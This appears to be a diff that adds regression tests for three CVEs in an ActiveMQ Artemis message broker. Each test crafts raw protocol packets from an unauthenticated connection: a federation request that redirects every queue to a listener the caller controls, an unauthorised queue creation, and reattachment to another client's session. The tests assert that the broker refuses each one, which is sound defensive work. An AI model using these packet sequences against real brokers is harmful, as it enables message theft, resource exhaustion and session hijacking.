@@ -17,11 +17,32 @@ import jakarta.jms.TextMessage;
 import java.io.IOException;
 import java.io.ObjectInputStream;
 import java.io.Serializable;
+import java.net.InetAddress;
+import java.net.ServerSocket;
+import java.net.SocketTimeoutException;
 import java.nio.file.Path;
 import java.time.Duration;
 import java.util.List;
 import java.util.Map;
 import java.util.concurrent.atomic.AtomicBoolean;
+import org.apache.activemq.artemis.api.core.SimpleString;
+import org.apache.activemq.artemis.api.core.TransportConfiguration;
+import org.apache.activemq.artemis.api.core.client.ActiveMQClient;
+import org.apache.activemq.artemis.api.core.client.ClientSessionFactory;
+import org.apache.activemq.artemis.api.core.client.ServerLocator;
+import org.apache.activemq.artemis.core.client.impl.ClientSessionInternal;
+import org.apache.activemq.artemis.core.config.federation.FederationDownstreamConfiguration;
+import org.apache.activemq.artemis.core.config.federation.FederationQueuePolicyConfiguration;
+import org.apache.activemq.artemis.core.protocol.core.Channel;
+import org.apache.activemq.artemis.core.protocol.core.CoreRemotingConnection;
+import org.apache.activemq.artemis.core.protocol.core.impl.ChannelImpl.CHANNEL_ID;
+import org.apache.activemq.artemis.core.protocol.core.impl.PacketImpl;
+import org.apache.activemq.artemis.core.protocol.core.impl.wireformat.CreateQueueMessage;
+import org.apache.activemq.artemis.core.protocol.core.impl.wireformat.FederationDownstreamConnectMessage;
+import org.apache.activemq.artemis.core.protocol.core.impl.wireformat.ReattachSessionMessage;
+import org.apache.activemq.artemis.core.protocol.core.impl.wireformat.ReattachSessionResponseMessage;
+import org.apache.activemq.artemis.core.remoting.impl.netty.NettyConnectorFactory;
+import org.apache.activemq.artemis.jms.client.ActiveMQSession;
 import org.junit.jupiter.api.AfterAll;
 import org.junit.jupiter.api.AfterEach;
 import org.junit.jupiter.api.BeforeAll;
@@ -363,6 +384,77 @@ class JmsDoorTest {
         assertThatThrownBy(() -> new JmsClient(url, null, null)).isInstanceOf(JMSSecurityException.class);
         assertThatThrownBy(() -> new JmsClient(url, "hub", "wrong")).isInstanceOf(JMSSecurityException.class);
         assertThatThrownBy(() -> new JmsClient(url, "other", "hush-hush")).isInstanceOf(JMSSecurityException.class);
+    }
+
+    /** CVE-2026-27446: whoever reached the address could have the broker hand its messages to one of theirs. */
+    @Test
+    void theBrokerConnectsToNoOtherBecauseAStrangerAsksForIt() throws Exception {
+        try (ServerSocket theirs = new ServerSocket(0, 1, InetAddress.getLoopbackAddress());
+                ServerLocator locator = ActiveMQClient.createServerLocator(url);
+                ClientSessionFactory stranger = locator.createSessionFactory()) {
+            theirs.setSoTimeout(2_000);
+            CoreRemotingConnection connection = (CoreRemotingConnection) stranger.getConnection();
+
+            connection.getChannel(CHANNEL_ID.FEDERATION.id, -1).send(federationWith(theirs.getLocalPort()));
+
+            assertThatThrownBy(theirs::accept).isInstanceOf(SocketTimeoutException.class);
+        }
+    }
+
+    /** CVE-2026-49362: whoever reached the address could fill the broker with queues. */
+    @Test
+    void aStrangerMakesNoQueue() throws Exception {
+        try (ServerLocator locator = ActiveMQClient.createServerLocator(url);
+                ClientSessionFactory stranger = locator.createSessionFactory()) {
+            SimpleString name = SimpleString.of("queue-of-a-stranger");
+            CoreRemotingConnection connection = (CoreRemotingConnection) stranger.getConnection();
+            Channel channel = connection.getChannel(CHANNEL_ID.SESSION.id, -1);
+
+            channel.send(new CreateQueueMessage(name, name, null, true, false, false));
+            // Answered in order.
+            channel.sendBlocking(new ReattachSessionMessage("none", -1), PacketImpl.REATTACH_SESSION_RESP);
+
+            assertThat(client.count(name.toString())).isEqualTo(-1);
+        }
+    }
+
+    /** CVE-2026-57967: whoever knew its name could go on with a session that somebody else had opened. */
+    @Test
+    void aSessionIsHandedToNobodyElse() throws Exception {
+        String lasting = url + "?confirmationWindowSize=1048576";
+        try (JmsClient victim = new JmsClient(lasting, "hub", PASSWORD);
+                ServerLocator locator = ActiveMQClient.createServerLocator(url);
+                ClientSessionFactory stranger = locator.createSessionFactory()) {
+            ClientSessionInternal theirs =
+                    (ClientSessionInternal) ((ActiveMQSession) victim.session()).getCoreSession();
+            CoreRemotingConnection connection = (CoreRemotingConnection) stranger.getConnection();
+
+            ReattachSessionResponseMessage answer = (ReattachSessionResponseMessage) connection
+                    .getChannel(CHANNEL_ID.SESSION.id, -1)
+                    .sendBlocking(new ReattachSessionMessage(theirs.getName(), -1), PacketImpl.REATTACH_SESSION_RESP);
+
+            assertThat(answer.isReattached()).isFalse();
+            assertThat(victim.count(JmsClient.SENDS)).isNotNegative();
+        }
+    }
+
+    private static FederationDownstreamConnectMessage federationWith(int port) {
+        FederationQueuePolicyConfiguration all = new FederationQueuePolicyConfiguration()
+                .setName("all")
+                .addInclude(new FederationQueuePolicyConfiguration.Matcher()
+                        .setAddressMatch("#")
+                        .setQueueMatch("#"));
+        FederationDownstreamConfiguration downstream = new FederationDownstreamConfiguration();
+        downstream.setName("theirs");
+        downstream.addPolicyRef("all");
+        downstream.setUpstreamConfiguration(new TransportConfiguration(
+                NettyConnectorFactory.class.getName(), Map.of("host", "127.0.0.1", "port", port), "theirs"));
+        FederationDownstreamConnectMessage message = new FederationDownstreamConnectMessage();
+        message.setName("theirs");
+        message.setStreamConfiguration(downstream);
+        message.setFederationPolicyMap(Map.of("all", all));
+        message.setTransformerConfigurationMap(Map.of());
+        return message;
     }
 
     private void assertThatTheDoorIsEmpty() {
